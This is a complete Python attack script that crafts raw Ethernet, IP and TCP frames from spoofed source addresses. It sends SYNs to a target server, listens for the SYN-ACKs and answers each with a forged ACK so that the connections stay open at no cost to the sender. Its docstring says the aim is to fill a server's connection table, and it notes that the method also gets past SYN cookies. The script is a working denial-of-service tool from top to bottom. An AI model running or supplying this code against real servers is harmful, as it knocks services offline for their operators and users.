#!/usr/bin/env python3
"""Connections held open at no cost: raw TCP handshakes from addresses the sender's
kernel does not have (it keeps no state and sends no reset), as an attacker with a
few addresses fills a server's connection table.

    handshake_flood.py IFACE DST_MAC DST_IP PORT PER_SOURCE SRC...

From each SRC, PER_SOURCE handshakes to DST_IP:PORT (a SYN, then the ACK of the
SYN-ACK, which also completes a SYN-cookie handshake), sent on IFACE to DST_MAC;
nothing more is sent on them. Prints "syns N synacks S acks A resets R".
"""
import random
import select
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main():
    iface, dst_mac, dst, port, per = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
    sources = sys.argv[6:]
    our_mac = open("/sys/class/net/%s/address" % iface).read().strip()
    mac = lambda m: bytes(int(x, 16) for x in m.split(":"))
    eth = mac(dst_mac) + mac(our_mac) + b"\x08\x00"
    dst_b = socket.inet_aton(dst)
    tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    tx.bind((iface, 0))
    rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    rx.bind((iface, 0))
    rx.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 << 20)
    rx.setblocking(False)

    def segment(src, sport, seq, ack, flags):
        s = socket.inet_aton(src)
        tcp = struct.pack("!HHIIBBHHH", sport, port, seq, ack, 5 << 4, flags, 65535, 0, 0)
        c = csum(s + dst_b + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
        tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, s, dst_b)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        return eth + ip + tcp

    isn = {}
    counts = {"synacks": 0, "acks": 0, "resets": 0}

    def answers():
        while True:
            try:
                f = rx.recv(2048)
            except BlockingIOError:
                return
            if len(f) < 54 or f[23] != 6 or f[26:30] != dst_b:
                continue
            t = 14 + (f[14] & 15) * 4
            _, dport, seq, _, _, flags = struct.unpack_from("!HHIIBB", f, t)
            key = (socket.inet_ntoa(f[30:34]), dport)
            if flags & 0x04:
                counts["resets"] += 1
            elif flags & 0x12 == 0x12 and key in isn:
                counts["synacks"] += 1
                tx.send(segment(key[0], dport, isn.pop(key) + 1, seq + 1, 0x10))
                counts["acks"] += 1

    sent = 0
    for src in sources:
        for i in range(per):
            sport = 1024 + i
            isn[(src, sport)] = random.getrandbits(32)
            tx.send(segment(src, sport, isn[(src, sport)], 0, 0x02))
            sent += 1
            if sent % 32 == 0:
                answers()
    end = time.time() + 2
    while time.time() < end:
        select.select([rx], [], [], 0.1)
        answers()
    print("syns %d synacks %d acks %d resets %d" % (sent, counts["synacks"], counts["acks"], counts["resets"]))


if __name__ == "__main__":
    main()
